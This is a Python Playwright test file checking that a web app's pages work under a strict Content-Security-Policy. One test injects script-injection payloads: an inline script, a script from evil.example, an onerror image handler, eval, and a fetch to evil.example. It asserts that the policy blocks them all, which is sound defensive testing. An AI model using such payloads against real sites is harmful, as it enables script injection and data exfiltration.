"""Every page of a public server works under the strict Content-Security-Policy: charts, viewer, exports, downloads."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from pages import PAGES
from pages.views.train import ARCHITECTURE, CROPS, PREFLIGHT, RUNS, SWEEP
from tests.browser.test_evaluate import make_run
from tests.helpers.browser import Server
from unet_core.data import synthetic
from unet_core.runs import run as runs

pytestmark = pytest.mark.browser

ATTACKS = """() => {
    const ran = [];
    window.attack = (name) => ran.push(name);
    const add = (tag, attributes, text = "") =>
        document.body.append(Object.assign(document.createElement(tag), attributes, { textContent: text }));
    add("script", {}, "attack('inline')");
    add("script", { src: "https://evil.example/x.js", onload: () => attack("foreign") });
    const holder = document.createElement("div");
    holder.innerHTML = `<img src="data:," onerror="attack('attribute')"><object data="data:text/html,x"></object>`;
    document.body.append(holder);
    return new Promise((done) => setTimeout(() => {
        try { window.eval("attack('eval')"); } catch (error) { ran.push(error.name); }
        fetch("https://evil.example/").then(() => ran.push("sent"), () => ran.push("not sent")).then(() => done(ran));
    }));
}"""


@pytest.fixture(scope="module")
def public(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A public server with a run whose dataset is there."""
    server = Server(tmp_path_factory.mktemp("policy"), UNET_STUDIO_PUBLIC="1")
    make_run(server.runs_dir, synthetic.write(server.folder / "data" / "cells", images=8))  # the operator's
    server.start()
    yield server
    server.kill()
    assert "Traceback" not in server.log.read_text()


def rest(page: Page) -> None:
    page.get_by_role("heading", level=1).first.wait_for()
    page.locator("[data-testid=stApp][data-test-script-state=notRunning]").wait_for()
    page.wait_for_load_state("networkidle")


@pytest.mark.timeout(600)
def test_every_page_works_under_the_policy(page: Page, public: Server) -> None:
    policy = page.goto(public.url).headers["content-security-policy"]
    assert "unsafe-eval" not in policy
    run = runs.find(public.runs_dir)[0].id
    for name in PAGES.values():
        page.goto(f"{public.url}/{name.url_path}?run={run}")
        rest(page)
    page.goto(f"{public.url}/train?run={run}")
    expect(page.locator(".live[data-ms]")).to_be_visible()
    for view in (PREFLIGHT, ARCHITECTURE, CROPS, SWEEP, RUNS):
        page.goto(f"{public.url}/train?view={view}")
        rest(page)
    page.goto(f"{public.url}/train?view={ARCHITECTURE}")
    expect(page.locator(".js-plotly-plot .main-svg").first).to_be_visible()

    page.goto(f"{public.url}/predict?run={run}&example=all")
    expect(page.locator(".viewer[data-state=ready]")).to_be_visible()
    with page.expect_download() as download:
        page.locator(".st-key-download_one button").click()
    assert download.value.suggested_filename.endswith(".png")

    page.goto(f"{public.url}/evaluate?run={run}")
    expect(page.locator(".viewer[data-state=ready]")).to_be_visible()
    with page.expect_download() as download:
        page.get_by_role("button", name="All scores (CSV)").click()
    assert download.value.suggested_filename.endswith("scores.csv")

    page.goto(f"{public.url}/compare?compare_view=Duel&duel_a={run}&duel_b={run}")
    expect(page.locator(".viewer[data-state=ready]")).to_have_count(3)
    expect(page.locator(".js-plotly-plot .main-svg").first).to_be_visible()


def test_the_policy_stops_what_should_not_run(page: Page, public: Server) -> None:
    browser = page.context.browser
    assert browser is not None
    other = browser.new_page()  # the usual one fails where the policy refuses something
    other.goto(public.url)
    rest(other)
    assert sorted(other.evaluate(ATTACKS)) == ["EvalError", "not sent"]
    other.context.close()
